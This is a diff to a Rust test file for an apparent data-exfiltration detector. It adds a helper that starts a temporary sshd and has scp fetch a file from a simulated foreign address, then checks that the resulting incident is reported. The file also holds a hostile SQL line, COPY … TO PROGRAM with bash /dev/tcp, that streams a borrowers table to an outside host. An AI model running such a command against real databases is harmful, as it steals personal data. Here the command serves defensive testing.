@@ -4,9 +4,11 @@ use super::postgres::{Mode, Postgres};
 use super::servers::{command_as, directory_for};
 use super::world::World;
 use crate::support::agent::{Agent, Setup};
-use crate::support::{Scratch, now, until};
+use crate::support::{Guard, Scratch, free_port, now, run, until};
+use rustix::process::Signal;
 use serde_json::Value;
 use std::path::Path;
+use std::process::Command;
 use std::time::Duration;
 
 /// What the store of the tests holds.
@@ -37,6 +39,27 @@ fn person(user: &str, script: &str, server: &Postgres, folder: &Path) {
     command.env("PGPASSWORD", "analyst-pw").env("PSQL", psql);
     let output = command.output().expect("the script runs");
     assert!(output.status.success(), "{script}: {}", String::from_utf8_lossy(&output.stderr));
+}
+
+/// Copies a file of `user` to the world by sftp; gives how long it is.
+fn come_for(file: &Path, user: &str, world: &World, scratch: &Scratch) -> u64 {
+    std::fs::set_permissions(scratch.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("own folder");
+    for key in ["host", "key"] {
+        run(Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(scratch.join(key)));
+    }
+    let _ = std::fs::create_dir("/run/sshd");
+    let port = free_port().to_string();
+    let mut sshd = Command::new("/usr/sbin/sshd");
+    sshd.args(["-D", "-e", "-f", "none", "-p", &port, "-o", "StrictModes=no", "-o", "PidFile=none", "-h"]);
+    sshd.arg(scratch.join("host")).arg("-o").arg(format!("AuthorizedKeysFile={}", scratch.join("key.pub").display()));
+    sshd.args(["-o", "Subsystem=sftp internal-sftp", "-o"]).arg(format!("ListenAddress={}", world.near));
+    let _sshd = Guard::spawn("sshd", &mut sshd, &scratch.join("sshd.log"), Signal::TERM);
+    until("sshd listens", LIMIT, || std::net::TcpStream::connect(format!("{}:{port}", world.near)).ok());
+    let mut scp = world.command("scp");
+    scp.args(["-q", "-F", "none", "-P", &port, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]);
+    scp.arg("-o").arg(format!("BindAddress={}", world.abroad)).arg("-i").arg(scratch.join("key"));
+    run(scp.arg(format!("{user}@{}:{}", world.near, file.display())).arg(scratch.join("fetched")));
+    std::fs::metadata(scratch.join("fetched")).expect("it came").len()
 }
 
 /// Incidents of the person and of the role: others may work on this machine.
@@ -109,7 +132,7 @@ fn read_packed_and_sent_abroad_is_one_critical_incident_with_the_whole_way() {
 }
 
 #[test]
-fn what_a_server_account_or_a_dump_sends_abroad_is_told_and_a_registered_recipient_is_not() {
+fn what_a_server_account_sends_or_somebody_comes_for_is_told_and_a_registered_recipient_is_not() {
     let server = Postgres::start(Mode::Pgaudit);
     let world = World::new();
     let (abroad, home) = (&world.abroad, &world.home);
@@ -141,6 +164,18 @@ fn what_a_server_account_or_a_dump_sends_abroad_is_told_and_a_registered_recipie
     let export =
         until("the export is told", LIMIT, || own(&agent).into_iter().find(|one| one.to_string().contains("export")));
     assert!(export["kuzet.transfers"].is_null(), "{export}");
+    // He comes for it from abroad.
+    let bytes = come_for(&folder.join("list.csv"), "list", &world, &scratch);
+    let fetched = until("who came for it is told", LIMIT, || {
+        chained(&agent).filter(|one| one["kuzet.transfers"]["flows"][0]["destination.bytes"].as_u64() > Some(bytes))
+    });
+    let flow = &fetched["kuzet.transfers"]["flows"][0];
+    assert_eq!(
+        (&fetched["kuzet.incident.id"], &flow["network.direction"]),
+        (&export["kuzet.incident.id"], &"inbound".into())
+    );
+    assert_eq!((&flow["destination.address"], &flow["kuzet.joined"]), (&abroad.as_str().into(), &"account".into()));
+    assert_eq!((&flow["process"]["process.name"], &flow["process"]["user.name"]), (&"sshd".into(), &"list".into()));
 
     // The server's own account: a program that COPY … TO PROGRAM starts is a child of the server's process.
     let send = format!("COPY borrowers TO PROGRAM 'bash -c \"cat > /dev/tcp/{abroad}/9000\"'");
